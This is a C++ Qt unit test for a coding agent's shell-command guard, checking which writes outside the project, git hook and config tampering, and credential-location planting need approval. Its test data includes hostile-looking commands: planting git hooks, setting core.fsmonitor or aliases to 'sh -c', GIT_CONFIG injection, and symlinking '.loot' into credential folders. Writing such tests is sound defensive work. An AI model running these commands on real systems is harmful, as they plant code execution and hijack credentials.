// Where a write lands: for each class of writer, targets outside the
// project, git hooks and settings that run later, and the places the app
// reads credentials from ask, with the reason naming the place; reading,
// writing inside the project or a temporary folder does not. Commands are
// classified only; none is ever run.
#include "agent/guard/CommandReview.h"
#include "agent/guard/CommandReviewReasons.h"
#include "agent/guard/PolicyEngine.h"
#include "agent/guard/ShellGuard.h"
#include "support/TestMain.h"

#include <QDir>
#include <QJsonDocument>
#include <QJsonObject>

using namespace agent;

namespace {

struct Landing {
    const char *cls;
    const char *command;
    const char *row;   // the rule whose reason the card shows
    const char *place; // what the reason names
};

const Landing kLandings[] = {
    // Outputs named by an option's shape, on programs no rule names.
    {"output option", "sort -o ~/thesis.tex notes.txt", "overwrites-outside", "~/thesis.tex"},
    {"output option", "iconv -f latin1 -t utf8 -o ../other/x.txt in.txt", "overwrites-outside", "../other/x.txt"},
    {"output option", "go build -o ../bin/app ./cmd/app", "overwrites-outside", "../bin/app"},
    {"output option", "report-tool --output=~/report.json", "overwrites-outside", "~/report.json"},
    {"output option", "report-tool --output-dir ../reports", "overwrites-outside", "../reports"},
    {"output option", "tsc --outDir ../dist", "overwrites-outside", "../dist"},
    {"output option", "mysqldump --result-file=/srv/db.sql app", "overwrites-outside", "/srv/db.sql"},
    {"output option", "wget -o ~/wget.log https://x/y", "overwrites-outside", "~/wget.log"},
    {"output option", "openssl req -new -key k.pem -out ~/x.csr", "overwrites-outside", "~/x.csr"},
    {"output option", "imgtool bs=1M of=/mnt/usb/b.img", "overwrites-outside", "/mnt/usb/b.img"},
    {"output option", "protoc --python_out=../gen x.proto", "overwrites-outside", "../gen"},
    {"output option", "tcpdump -i any -w ~/cap.pcap", "overwrites-outside", "~/cap.pcap"},
    {"output option", "javac -d ../classes Main.java", "overwrites-outside", "../classes"},
    {"output option", "cmake -S . -B ../build", "overwrites-outside", "../build"},
    // Outputs by position.
    {"positional output", "cat x | sponge ~/.bash_history", "overwrites-outside", "~/.bash_history"},
    {"positional output", "ls | sponge -a ~/files.txt", "writes-outside", "~/files.txt"},
    {"positional output", "uniq -f 1 in.txt ~/out.txt", "overwrites-outside", "~/out.txt"},
    {"positional output", "split -l 100 big.txt ../parts/p", "overwrites-outside", "../parts/p"},
    {"positional output", "xxd -r dump.hex ~/bin.dat", "overwrites-outside", "~/bin.dat"},
    {"positional output", "scp -P 2222 host:notes.md ~/notes.md", "overwrites-outside", "~/notes.md"},
    {"positional output", "ffmpeg -i in.mp4 -c:v libx264 ~/out.mp4", "overwrites-outside", "~/out.mp4"},
    {"positional output", "zip ~/backup.zip notes.txt", "writes-outside", "~/backup.zip"},
    {"positional output", "tar czf ~/backup.tgz .", "overwrites-outside", "~/backup.tgz"},
    {"positional output", "tar --create --file=../src.tar src", "overwrites-outside", "../src.tar"},
    {"positional output", "docker cp app:/data ~/data", "overwrites-outside", "~/data"},
    {"positional output", "unrar x a.rar ~/x/", "overwrites-outside", "~/x"},
    {"positional output", "aws s3 cp s3://b/k ~/k", "overwrites-outside", "~/k"},
    {"positional output", "git archive -o ~/x.tar HEAD", "overwrites-outside", "~/x.tar"},
    // Rewritten in place.
    {"in place", "gzip ~/notes.txt", "overwrites-outside", "~/notes.txt"},
    {"in place", "dos2unix ../other/run.sh", "overwrites-outside", "../other/run.sh"},
    {"in place", "black ~/other/x.py", "overwrites-outside", "~/other/x.py"},
    {"in place", "clang-format -i ../lib/x.c", "overwrites-outside", "../lib/x.c"},
    {"in place", "gofmt -w ~/go/src/x.go", "overwrites-outside", "~/go/src/x.go"},
    {"in place", "prettier --write ~/site/index.js", "overwrites-outside", "~/site/index.js"},
    {"in place", "fixer --in-place ../other/a.cfg", "overwrites-outside", "../other/a.cfg"},
    {"in place", "awk -i inplace '{print}' ~/x.txt", "overwrites-outside", "~/x.txt"},
    {"in place", "sd foo bar ~/x.txt", "overwrites-outside", "~/x.txt"},
    {"in place", "yq -i '.a=1' ../cfg/x.yml", "overwrites-outside", "../cfg/x.yml"},
    // Folders a command works in.
    {"working folder", "patch -p1 -d ../other-repo < fix.patch", "writes-outside", "../other-repo"},
    {"working folder", "git apply --directory=../other-repo x.patch", "writes-outside", "../other-repo"},
    {"working folder", "git apply --unsafe-paths fix.patch", "writes-outside", "paths the patch names"},
    {"working folder", "make -C ~/src/lib install", "writes-outside", "~/src/lib"},
    {"working folder", "git -C ../lib pull", "writes-outside", "../lib"},
    {"working folder", "git -C ../a -C b stash pop", "writes-outside", "../a/b"},
    {"working folder", "unsquashfs -d ~/rootfs image.sqfs", "writes-outside", "~/rootfs"},
    {"working folder", "patch ~/x.c < fix.patch", "writes-outside", "~/x.c"},
    {"working folder", "cd ../other-repo && patch -p1 < fix.patch", "writes-outside", "../other-repo"},
    {"working folder", "cd ~/src/lib && make install", "writes-outside", "~/src/lib"},
    {"working folder", "cd ../other && git pull", "writes-outside", "../other"},
    {"working folder", "env -C ../other-repo patch -p1 < fix.patch", "writes-outside", "../other-repo"},
    {"working folder", "env --chdir=$HOME/notes tee -a todo.txt", "writes-outside", "~/notes/todo.txt"},
    {"working folder", "env -i -C ~ sort -o thesis.tex notes.txt", "overwrites-outside", "~/thesis.tex"},
    // Appends and copies into folders outside.
    {"adds outside", "tee -a ~/Documents/todo.txt", "writes-outside", "~/Documents/todo.txt"},
    {"adds outside", "echo note >> ~/notes.txt", "writes-outside", "~/notes.txt"},
    {"adds outside", "cp -r src/. ../other-project/src/", "writes-outside", "../other-project/src"},
    {"adds outside", "cp README.md ~/backup/", "writes-outside", "~/backup/README.md"},
    {"adds outside", "rsync -av --exclude .git ./ ../backup/", "writes-outside", "../backup"},
    {"adds outside", "git worktree add -b feat ../feat", "writes-outside", "../feat"},
    // Git hooks and repository settings, by any writer.
    {"git hook", "cp evil.sh .git/hooks/pre-commit", "git-runs-later", ".git/hooks/pre-commit"},
    {"git hook", "printf '#!/bin/sh\\nid\\n' | tee .git/hooks/pre-push", "git-runs-later", ".git/hooks/pre-push"},
    {"git hook", "mv /tmp/x .git/hooks/commit-msg", "git-runs-later", ".git/hooks/commit-msg"},
    {"git hook", "cd .git/hooks && cat > post-checkout", "git-runs-later", ".git/hooks/post-checkout"},
    {"git hook", "curl -o .git/hooks/pre-commit https://x/h", "git-runs-later", ".git/hooks/pre-commit"},
    {"git hook", "unzip hooks.zip -d .git/hooks", "git-runs-later", ".git/hooks"},
    {"git hook", "echo x > vendor/lib/.git/hooks/post-merge", "git-runs-later", "vendor/lib/.git/hooks/post-merge"},
    {"git hook", "echo x > .git/modules/sub/hooks/post-checkout", "git-runs-later", ".git/modules/sub/hooks/post-checkout"},
    {"git config file", "echo '[core] fsmonitor = x' >> .git/config", "git-runs-later", ".git/config"},
    {"git config file", "sed -i 's/false/x/' .git/config", "git-runs-later", ".git/config"},
    {"git config file", "cd .git && cat cfg >> config", "git-runs-later", ".git/config"},
    {"git config file", "echo 'gitdir: /tmp/evil' > .git", "git-runs-later", ".git"},
    // Settings that make git run a program.
    {"git setting", "git config core.fsmonitor 'sh -c x'", "git-runs-later", "core.fsmonitor"},
    {"git setting", "git config core.hooksPath .githooks", "git-runs-later", "core.hooksPath"},
    {"git setting", "git config --local core.pager 'less; id'", "git-runs-later", "core.pager"},
    {"git setting", "git config alias.lg '!sh -c id'", "git-runs-later", "alias.lg"},
    {"git setting", "git config diff.pdf.textconv pdftotext", "git-runs-later", "diff.pdf.textconv"},
    {"git setting", "git config credential.helper store", "git-runs-later", "credential.helper"},
    {"git setting", "git config set core.editor nano", "git-runs-later", "core.editor"},
    {"git setting", "git config --add include.path ../evil.cfg", "git-runs-later", "include.path"},
    {"git setting", "git config --file .git/config core.askPass ./ask", "git-runs-later", "core.askPass"},
    {"git setting", "git config remote.origin.uploadpack 'sh -c x'", "git-runs-later", "remote.origin.uploadpack"},
    {"git setting", "git config hook.pre-commit.command ./x", "git-runs-later", "hook.pre-commit.command"},
    {"git setting", "git clone --config=alias.x='!sh' https://x/y.git", "git-runs-later", "alias.x"},
    {"git setting", "git init --template=/tmp/t", "git-runs-later", "init.templateDir"},
    // One-shot settings that run a program unseen, by option or environment.
    {"git one-shot", "git -c credential.helper='!sh -c id' fetch", "git-one-off-config", ""},
    {"git one-shot", "git -c init.templateDir=/tmp/t init", "git-one-off-config", ""},
    {"git one-shot", "git -c core.askPass='sh -c id' fetch", "git-one-off-config", ""},
    {"git one-shot", "git --config-env=core.pager=P log", "git-one-off-config", ""},
    {"git one-shot", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='sh -c x' git status", "git-one-off-config", ""},
    {"git one-shot", "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=sh -c id'\" git fetch", "git-one-off-config", ""},
    {"git one-shot", "GIT_CONFIG_GLOBAL=/tmp/evil.cfg git status", "git-one-off-config", ""},
    // The app's credential places: made, linked or written.
    {"credential place", "ln -s \"$PWD/.loot\" ~/.qirv", "credential-planted", "~/.qirv"},
    {"credential place", "ln -s \"$PWD/.loot\" /root/.qirv", "credential-planted", "~/.qirv"},
    {"credential place", "cd ~ && ln -s /work/p/.loot .qirv", "credential-planted", "~/.qirv"},
    {"credential place", "cd ~/.config && ln -s /work/p/qirv", "credential-planted", "~/.config/qirv"},
    {"credential place", "mkdir -p \"$XDG_CONFIG_HOME/qirv\"", "credential-planted", "~/.config/qirv"},
    {"credential place", "ln -sfn .loot ~/.config/ovu", "credential-planted", "~/.config/ovu"},
    {"credential place", "for d in .qirv .config/ovu; do ln -s \"$PWD/.loot\" ~/$d; done", "credential-planted", "~/.qirv"},
    {"credential place", "ln -s \"$PWD/ovu\" ~/.config/", "credential-planted", "~/.config/ovu"},
    {"credential place", "echo sk-1 > ~/.config/ovu/api_key", "credential-planted", "~/.config/ovu/api_key"},
    {"credential place", "printf x | tee ~/.qirv/auth.json", "credential-planted", "~/.qirv/auth.json"},
    {"credential place", "mv .loot ~/.qirv", "credential-planted", "~/.qirv"},
    {"credential place", "ln -s \"$PWD/d\" ~/.local/share/com.ovu.QirvMac", "credential-planted", "~/.local/share/com.ovu.QirvMac"},
    {"credential place", "cp x.keyring ~/.local/share/keyrings/", "credential-planted", "~/.local/share/keyrings"},
    {"credential place", "install -D k ~/.config/qirv/api_key", "credential-planted", "~/.config/qirv/api_key"},
    {"credential place", "echo k > ~/.config/qirv/api_key", "credential-planted", "~/.config/qirv/api_key"},
    {"credential place", "touch ~/.qirv/auth.json", "credential-planted", "~/.qirv/auth.json"},
    {"credential place", "cp -r loot ~/.local/share/com.ovu.QirvMac", "credential-planted", "~/.local/share/com.ovu.QirvMac"},
};

// Look-alikes: options of the same shape that read or mean something
// else, writes inside the project or a temporary folder, reading git's files.
const char *const kLookAlikes[] = {
    "grep -C 3 main ~/other/a.c", "grep -o 'foo' ~/notes.txt", "ls -o ~", "ps -o pid,cmd", "set -o pipefail; make", "find ~ -name x -o -name y",
    "make -o ~/x all", "kubectl get pods -o json", "wc -w ~/x", "tcpdump -r ~/cap.pcap", "ninja -C build", "cmake -B build", "report-tool --output=json", "report-tool -o yaml",
    "tar -C ~/src -cf out.tar .", "tar -tf ~/a.tar", "tar -xf ~/Downloads/a.tar", "unzip -l ~/a.zip", "zip -r out.zip ~/docs",
    "gzip -c ~/notes.txt > notes.gz", "gzip -t ~/a.gz", "black --check ~/other/x.py", "gofmt -l ~/go/src", "clang-format ~/x.c",
    "prettier --check ~/site/x.js", "sd -p foo bar ~/x.txt", "yq '.a' ~/x.yml", "awk '{print}' ~/x.txt", "docker cp x.txt app:/data",
    "git format-patch -o patches HEAD~3", "uniq ~/in.txt out.txt", "xxd -o 16 ~/x", "ffmpeg -i ~/in.mp4 out.mp4", "scp notes.md host:",
    "patch -p1 < ~/fix.patch", "patch --dry-run -p1 -d ../other < fix.patch", "git apply --check --directory=../other x.patch",
    "git -C ../other status", "cd ../other && git status", "cd build && make", "cd /tmp/x && git commit -m x", "git -C ~/dotfiles log --oneline", "git --work-tree=../site diff", "rsync -n -av src/ ../other/",
    "curl -o - https://x | head", "env -C build tee -a log.txt", "env -C /tmp sort -o x.txt in.txt", "cd ~ && env -C /tmp tee x", "sort -o out.txt ~/list.txt", "report-tool --output-dir build/reports", "make -C build -j8",
    "git worktree add .worktrees/feature", "tee -a build/log.txt", "cp ~/x.txt build/", "cp notes.txt /tmp/", "tar czf /tmp/x.tgz .",
    "cat .git/config", "ls .git/hooks", "git config user.name x", "git config --get core.hooksPath", "git config --unset core.fsmonitor",
    "git config core.fsmonitor false", "git config -f tools.ini build.command make", "echo x >> .git/info/exclude",
    "cp .git/config /tmp/config.bak", "cp hooks/pre-commit scripts/hooks/", "git -c core.pager=cat log",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=cat git log", "GIT_CONFIG_GLOBAL=/dev/null git status",
    "git -c credential.helper= push",
    "ls -la ~/.qirv", "mkdir -p .qirv", "ln -s ../shared/config.json", "ln -s /work/p/qirv", "mkdir -p ~/.config/ovu-notes", "echo k > .config/ovu/api_key", "mkdir -p ~/.cache/x",
};

// With the project's path known, a path written absolute, from home, or
// climbing out and back in that lands in the project is the project's;
// a neighbour sharing its name's start, or a climb that stays out, is not.
struct Rooted {
    const char *command;
    const char *row; // empty: passes
    const char *place;
};

const Rooted kRooted[] = {
    {"cp a.txt /work/proj/build/a.txt", "", ""},
    {"sed -i 's/a/b/' /work/proj/src/x.c", "", ""},
    {"echo x >> /work/proj/notes.txt", "", ""},
    {"sort -o /work/proj/out.txt in.txt", "", ""},
    {"cd /work/proj/src && patch -p1 < fix.patch", "", ""},
    {"echo x > ../proj/out.txt", "", ""},
    {"cd .. && tee -a proj/log.txt", "", ""},
    {"rm -r /work/proj/build", "", ""},
    {"rm -r /work/proj-old/build", "removes-outside", "/work/proj-old/build"},
    {"cp a.txt /work/proj-old/a.txt", "overwrites-outside", "/work/proj-old/a.txt"},
    {"echo x >> /work/other/n.txt", "writes-outside", "/work/other/n.txt"},
    {"tee -a /work/proj/../other/x", "writes-outside", "/work/other/x"},
    {"cp a.txt ../other/a.txt", "overwrites-outside", "../other/a.txt"},
    {"cp evil.sh /work/proj/.git/hooks/pre-commit", "git-runs-later", ".git/hooks/pre-commit"},
};

PolicyDecision::Action decision(model::ToolGuardMode mode, const QString &command)
{
    model::AppSettings s;
    s.toolGuardMode = mode;
    const QString args = QString::fromUtf8(QJsonDocument(QJsonObject{{QStringLiteral("command"), command}}).toJson(QJsonDocument::Compact));
    return PolicyEngine(s).decide(QStringLiteral("run_shell"), args).action;
}

} // namespace

class TestGuardTargets : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void landings_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("reason");
        for (const Landing &l : kLandings)
            QTest::addRow("%s | %s", l.cls, l.command)
                << QString::fromUtf8(l.command) << CommandReview::reasonOf(l.row, QString::fromUtf8(l.place));
    }
    // Asked in YOLO, with the place on the card; the same through a shell.
    void landings()
    {
        QFETCH(QString, command);
        QFETCH(QString, reason);
        QCOMPARE(ShellGuard::destructiveReason(command).value_or(QString()), reason);
        QCOMPARE(decision(model::ToolGuardMode::Yolo, command), PolicyDecision::Action::NeedsApproval);
        QString quoted = command;
        quoted.replace(u'\'', QStringLiteral("'\\''"));
        QCOMPARE(ShellGuard::destructiveReason(QStringLiteral("bash -c '") + quoted + u'\'').value_or(QString()), reason);
    }

    // A credential place planted asks in every mode.
    void plantedAsksInEveryMode_data()
    {
        QTest::addColumn<QString>("command");
        for (const Landing &l : kLandings) {
            if (qstrcmp(l.row, "credential-planted") == 0)
                QTest::newRow(l.command) << QString::fromUtf8(l.command);
        }
    }
    void plantedAsksInEveryMode()
    {
        QFETCH(QString, command);
        for (const model::ToolGuardMode mode : {model::ToolGuardMode::Ask, model::ToolGuardMode::Balanced, model::ToolGuardMode::Yolo})
            QCOMPARE(decision(mode, command), PolicyDecision::Action::NeedsApproval);
    }

    void projectRootKnown_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("reason");
        for (const Rooted &r : kRooted)
            QTest::newRow(r.command) << QString::fromUtf8(r.command)
                                     << (*r.row ? CommandReview::reasonOf(r.row, QString::fromUtf8(r.place)) : QString());
    }
    void projectRootKnown()
    {
        QFETCH(QString, command);
        QFETCH(QString, reason);
        QCOMPARE(ShellGuard::judge(command, {}, QStringLiteral("/work/proj/")).destructive.value_or(QString()), reason);
        // Under home, the same place spelt from home.
        const QString home = QDir::homePath();
        QString fromHome = command;
        fromHome.replace(QLatin1String("/work/"), QStringLiteral("~/work/"));
        QString expected = reason;
        expected.replace(QLatin1String("/work/"), QStringLiteral("~/work/"));
        QCOMPARE(ShellGuard::judge(fromHome, {}, home + QStringLiteral("/work/proj")).destructive.value_or(QString()), expected);
    }

    // sudo -D moves the folder as env -C does (its escalation left aside).
    void sudoMovesTheFolder()
    {
        const QString profile = CommandReview::reasonOf("shell-profile");
        QCOMPARE(CommandReview::reviewWithout(QStringLiteral("sudo -D ~ tee -a .bashrc"), "escalation").reason, profile);
        QCOMPARE(CommandReview::reviewWithout(QStringLiteral("sudo --chdir=$HOME tee -a .bashrc"), "escalation").reason, profile);
        QCOMPARE(CommandReview::reviewWithout(QStringLiteral("sudo -D ~/proj tee -a .bashrc"), "escalation").reason, std::nullopt);
    }

    void lookAlikes_data()
    {
        QTest::addColumn<QString>("command");
        for (const char *c : kLookAlikes)
            QTest::newRow(c) << QString::fromUtf8(c);
    }
    void lookAlikes()
    {
        QFETCH(QString, command);
        QCOMPARE(ShellGuard::destructiveReason(command).value_or(QString()), QString());
        QCOMPARE(decision(model::ToolGuardMode::Yolo, command), PolicyDecision::Action::Allow);
    }
};

MOONSHELF_TEST_GUILESS_MAIN(TestGuardTargets)
#include "tst_guard_targets.moc"
